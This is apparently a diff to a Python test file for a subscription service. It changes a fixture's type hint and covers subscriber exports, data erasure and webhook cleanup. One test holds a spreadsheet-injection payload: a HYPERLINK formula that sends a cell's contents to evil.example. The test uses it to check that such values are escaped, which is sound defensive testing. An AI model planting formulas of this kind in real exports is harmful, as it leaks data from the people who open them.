@@ -26,7 +26,7 @@ from calcast.subscriptions.capture import capture
 from calcast.subscriptions.models import Subscription
 from calcast.webhooks import service as webhooks
 from calcast.webhooks.models import WebhookDelivery
-from tests.conftest import Persona
+from tests.conftest import Cli, Persona
 from tests.support.braze_sync import change_tags, connect_braze, worker
 from tests.support.fake_braze import FakeBraze, running_fake_braze
 
@@ -55,7 +55,7 @@ def push(database: Database, account_id: str, subscription_id: str) -> None:
         )
 
 
-def test_the_subscriber_list_exports_as_csv_and_json_lines(cli: Any, database: Database, owner: Persona) -> None:
+def test_the_subscriber_list_exports_as_csv_and_json_lines(cli: Cli, database: Database, owner: Persona) -> None:
     subscribe(database, "owner", subscriber_id="u1", email="one@example.com", tags=["Team I", "Team II"])
     subscribe(database, "owner", email="two@example.com", capture=capture(utm_source="newsletter"))
     rows = list(csv.DictReader(io.StringIO(cli("export", "subscribers", "owner").stdout)))
@@ -68,7 +68,7 @@ def test_the_subscriber_list_exports_as_csv_and_json_lines(cli: Any, database: D
 
 
 def test_values_a_spreadsheet_would_run_as_formulas_are_escaped_in_csv_and_kept_raw_in_json_lines(
-    cli: Any, database: Database, owner: Persona
+    cli: Cli, database: Database, owner: Persona
 ) -> None:
     hostile = capture(
         utm_source='=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
@@ -117,7 +117,7 @@ def test_a_csv_cell_never_starts_like_a_formula(value: Any, cell: str) -> None:
 
 
 def test_a_person_export_holds_everything_stored_about_them_and_nobody_else(
-    cli: Any, database: Database, owner: Persona, other: Persona
+    cli: Cli, database: Database, owner: Persona, other: Persona
 ) -> None:
     mine = subscribe(database, "owner", subscriber_id="u1", capture=capture(ip_address="203.0.113.9"))
     subscribe(database, "other", subscriber_id="u1")
@@ -133,7 +133,7 @@ def test_a_person_export_holds_everything_stored_about_them_and_nobody_else(
     assert "has no subscriber 'nobody@example.com'" in missing.stderr
 
 
-def test_forget_unsubscribes_and_erases_identifying_data(cli: Any, database: Database, owner: Persona) -> None:
+def test_forget_unsubscribes_and_erases_identifying_data(cli: Cli, database: Database, owner: Persona) -> None:
     forgotten = subscribe(
         database,
         "owner",
@@ -163,7 +163,7 @@ def test_forget_unsubscribes_and_erases_identifying_data(cli: Any, database: Dat
     assert cli("export", "person", "owner", "one@example.com").exit_code == 1
 
 
-def test_forget_erases_an_unverified_external_id_too(cli: Any, database: Database, owner: Persona) -> None:
+def test_forget_erases_an_unverified_external_id_too(cli: Cli, database: Database, owner: Persona) -> None:
     with database.transaction() as session:
         calendars.get_calendar(session=session, account_code="owner", code="main").email_capture = "optional"
         done = subscriptions.subscribe_anonymously(
@@ -254,7 +254,7 @@ def holding_the_person(database: Database) -> list[str]:
 
 
 def test_forget_leaves_nothing_of_the_person_in_the_outbox_or_the_webhook_log_but_the_braze_removal(
-    cli: Any, database: Database, owner: Persona, braze: FakeBraze, receiver: EchoingReceiver
+    cli: Cli, database: Database, owner: Persona, braze: FakeBraze, receiver: EchoingReceiver
 ) -> None:
     with database.transaction() as session:
         webhooks.add_endpoint(
@@ -333,7 +333,7 @@ def test_forget_leaves_nothing_of_the_person_in_the_outbox_or_the_webhook_log_bu
 
 
 def test_a_message_erased_with_the_person_cannot_be_sent_again(
-    cli: Any, database: Database, owner: Persona, braze: FakeBraze
+    cli: Cli, database: Database, owner: Persona, braze: FakeBraze
 ) -> None:
     subscribe(database, "owner", subscriber_id=EXTERNAL_ID, email=EMAIL)
     drain(database)
